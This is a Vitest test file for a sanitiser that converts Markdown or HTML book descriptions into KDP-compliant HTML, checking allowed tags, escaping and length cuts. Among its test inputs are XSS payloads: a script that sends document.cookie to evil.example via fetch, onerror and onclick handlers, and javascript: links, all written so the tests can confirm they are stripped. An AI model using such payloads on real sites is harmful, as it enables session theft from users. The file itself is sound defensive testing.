// The description's HTML as KDP takes it: only b i em strong u br p ul ol li h4 h5 h6, no attributes,
// text escaped, at most 4,000 characters with the tags, never cut inside a tag or an escape.
import { describe, expect, it } from 'vitest';
import {
  KDP_DESCRIPTION_MAX,
  KDP_TAGS,
  disallowedTags,
  markdownToKdpHtml,
  sanitizeKdpHtml,
} from '../../engine/publish/index.js';

describe('sanitizeKdpHtml', () => {
  const cases: Array<{ name: string; input: string; expected: string }> = [
    {
      name: 'a script is removed with its content',
      input: '<p>Before<script>alert("x")</script> after</p>',
      expected: '<p>Before after</p>',
    },
    { name: 'an unclosed script removes the rest', input: '<p>Kept</p><script>steal()', expected: '<p>Kept</p>' },
    {
      name: 'a link keeps its text, not the tag or its href',
      input: '<p>Read <a href="https://evil.example" target="_blank">this</a> now</p>',
      expected: '<p>Read this now</p>',
    },
    {
      name: 'allowed tags are kept, attributes dropped',
      input: '<p class="x" onclick="y()"><b>B</b> <i>I</i> <em>E</em> <strong>S</strong> <u>U</u><br/>line</p>',
      expected: '<p><b>B</b> <i>I</i> <em>E</em> <strong>S</strong> <u>U</u><br>line</p>',
    },
    {
      name: 'lists and small headings are kept',
      input: '<h4>Why</h4><ul><li>one</li></ul><ol><li>two</li></ol><h5>x</h5><h6>y</h6>',
      expected: '<h4>Why</h4><ul><li>one</li></ul><ol><li>two</li></ol><h5>x</h5><h6>y</h6>',
    },
    {
      name: 'big headings, divs, spans and images go, their text stays',
      input: '<h1>Title</h1><div><span style="color:red">red</span><img src="x.png" alt="pic"></div>',
      expected: 'Titlered',
    },
    {
      name: 'text is escaped',
      input: '<p>Tom & Jerry <3 "quotes" 5 > 4</p>',
      expected: '<p>Tom &amp; Jerry &lt;3 "quotes" 5 &gt; 4</p>',
    },
    {
      name: 'entities are decoded once and escaped again',
      input: '<p>&amp;lt;b&amp;gt; &copy; &#169; &#x41; &bogus;</p>',
      expected: '<p>&amp;lt;b&amp;gt; © © A &amp;bogus;</p>',
    },
    {
      name: 'comments and style blocks are removed',
      input: '<style>p{}</style><!-- hidden --><p>shown</p>',
      expected: '<p>shown</p>',
    },
    {
      name: 'unclosed elements are closed, stray closing tags dropped',
      input: '</b><p><strong>bold',
      expected: '<p><strong>bold</strong></p>',
    },
  ];
  for (const c of cases) it(c.name, () => expect(sanitizeKdpHtml(c.input)).toBe(c.expected));

  it('every tag KDP keeps survives; the result has no tag KDP removes', () => {
    const input = KDP_TAGS.map((t) => (t === 'br' ? '<br>' : `<${t}>x</${t}>`)).join('');
    const out = sanitizeKdpHtml(input);
    expect(out).toBe(input);
    expect(disallowedTags(out)).toEqual([]);
    expect(disallowedTags('<p><a href="x">y</a></p><script>z</script><p class="c">w</p>')).toEqual([
      '<a href="x">',
      '</a>',
      '<script>',
      '</script>',
      '<p class="c">',
    ]);
  });

  it('keeps to 4,000 characters with the tags, cutting at a sentence end and closing what is open', () => {
    const paragraph = `<p><strong>Hook.</strong> ${'Words &amp; more words here. '.repeat(40)}</p>`;
    const out = sanitizeKdpHtml(`<ul>${'<li>item one two three</li>'.repeat(20)}</ul>${paragraph.repeat(10)}`);
    expect(out.length).toBeLessThanOrEqual(KDP_DESCRIPTION_MAX);
    expect(out.length).toBeGreaterThan(KDP_DESCRIPTION_MAX - 60);
    // Cut after a whole sentence (not mid-word at exactly 4,000).
    expect(out).toMatch(/here\.<\/p>$/);
    // Every tag is whole and closed: removing whole tags leaves no < or >, and opens equal closes.
    expect(out.replace(/<\/?[a-z0-9]+>/g, '')).not.toMatch(/[<>]/);
    expect(out.match(/<p>/g)?.length).toBe(out.match(/<\/p>/g)?.length);
    // No escape is cut in half.
    expect(out.replace(/&(amp|lt|gt);/g, '')).not.toContain('&');
    expect(sanitizeKdpHtml(out)).toBe(out);
  });

  it('a text with no sentence end to cut at is cut between words with an ellipsis', () => {
    expect(sanitizeKdpHtml(`<p>${'word '.repeat(20)}</p>`, { maxChars: 30 })).toBe('<p>word word word word…</p>');
  });

  it('removes web and mail addresses: stores refuse URLs (issue 28)', () => {
    expect(
      sanitizeKdpHtml('<p>Visit https://karya.example/book?id=1 or www.example.com today. Mail me@example.com.</p>'),
    ).toBe('<p>Visit or today. Mail.</p>');
    expect(sanitizeKdpHtml('<p>Read <a href="https://x.example">https://x.example</a> now.</p>')).toBe(
      '<p>Read now.</p>',
    );
  });

  it('a cut right after an opening tag drops the empty element', () => {
    const out = sanitizeKdpHtml(`<p>${'a'.repeat(30)}</p><p>${'b '.repeat(30)}</p>`, { maxChars: 44 });
    expect(out).toBe(`<p>${'a'.repeat(30)}</p>`);
  });

  it('a cap smaller than any content gives an empty description', () => {
    expect(sanitizeKdpHtml('<p>something long</p>', { maxChars: 5 })).toBe('');
  });
});

describe('markdownToKdpHtml', () => {
  it('paragraphs, bold, italics, bullet and numbered lists, headings as h4 to h6', () => {
    const md =
      '# The Book\n\n**A hook line.**\nSecond line with *feeling*.\n\n- one\n- two\n\n1. first\n2. second\n\n### Small';
    expect(sanitizeKdpHtml(markdownToKdpHtml(md))).toBe(
      '<h4>The Book</h4><p><strong>A hook line.</strong><br>Second line with ' +
        '<em>feeling</em>.</p><ul><li>one</li><li>two</li></ul><ol><li>first</li><li>second</li></ol><h5>Small</h5>',
    );
  });
  it('an answer already in HTML is left to the sanitiser', () => {
    expect(markdownToKdpHtml('<p>Hi <a href="x">there</a></p>')).toBe('<p>Hi <a href="x">there</a></p>');
  });
  it('Markdown links become their text; images and bare URLs go (issue 28)', () => {
    expect(
      sanitizeKdpHtml(
        markdownToKdpHtml(
          'Find it [on our site](https://karya.example/book "Karya") today. ' +
            '![cover](c.png)\n\nMore at <https://x.example> and https://y.example.',
        ),
      ),
    ).toBe('<p>Find it on our site today.</p><p>More at and.</p>');
  });
  it('an answer mixing HTML and Markdown: the HTML kept, the Markdown converted (issue 28)', () => {
    const mixed =
      '<p><strong>A love story</strong> set in **Kuantan**.</p>\n\n' +
      '## Why readers love it\n\n- *warm*\n- funny\n\n<p>Out now.</p>';
    expect(sanitizeKdpHtml(markdownToKdpHtml(mixed))).toBe(
      '<p><strong>A love story</strong> set in <strong>Kuantan</strong>.</p><h4>Why ' +
        'readers love it</h4><ul><li><em>warm</em></li><li>funny</li></ul><p>Out now.</p>',
    );
  });
  it('angle brackets in Markdown are text; tags written inline go through the sanitiser', () => {
    expect(sanitizeKdpHtml(markdownToKdpHtml('5 < 6 & 7 > 3'))).toBe('<p>5 &lt; 6 &amp; 7 &gt; 3</p>');
    expect(
      sanitizeKdpHtml(markdownToKdpHtml('**Buy** <a href="https://x.example">here</a><script>x()</script> now')),
    ).toBe('<p><strong>Buy</strong> here now</p>');
  });
});

describe('hostile descriptions stay safe (a model or a pasted text may hold anything)', () => {
  const cases: Array<{ name: string; input: string; expected: string }> = [
    {
      name: 'a script tag in Markdown goes with its code',
      input: 'A **gripping** tale.\n\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\nOut now.',
      expected: '<p>A <strong>gripping</strong> tale.</p><p>Out now.</p>',
    },
    {
      name: 'event handlers are dropped with every attribute',
      input: '<p onmouseover="alert(1)">Hover</p><img src=x onerror="alert(2)"><b onclick=steal()>bold</b>',
      expected: '<p>Hover</p><b>bold</b>',
    },
    {
      name: 'a javascript: link keeps only its text',
      input: 'Click [here](javascript:alert(1)) or <a href="javascript:alert(2)">there</a>.',
      expected: '<p>Click here or there.</p>',
    },
    {
      name: 'unclosed tags are closed',
      input: '<p><em>Open <strong>and open',
      expected: '<p><em>Open <strong>and open</strong></em></p>',
    },
    { name: 'a half-written tag is text, not a tag', input: 'Still <b', expected: '<p>Still &lt;b</p>' },
    {
      name: 'HTML entities are read once: an escaped script stays text, never a tag',
      input: 'Tom &amp; Jerry &lt;script&gt;alert(1)&lt;/script&gt; &quot;fun&quot; &#8212; &eacute;t&eacute;',
      expected: '<p>Tom &amp; Jerry &lt;script&gt;alert(1)&lt;/script&gt; "fun" — été</p>',
    },
    {
      name: 'an iframe, a style and a comment go whole',
      input:
        '<iframe src="https://evil.example">x</iframe><style>*{display:none}</style><!-- <script>x()</script> -->Safe',
      expected: 'Safe',
    },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const out = sanitizeKdpHtml(markdownToKdpHtml(c.input));
      expect(out).toBe(c.expected);
      expect(disallowedTags(out)).toEqual([]);
      // Nothing a browser would run: no script tag, no javascript: address, no tag with an attribute.
      expect(out).not.toMatch(/<script|javascript:|<[a-z0-9]+\s/i);
    });
  }
});
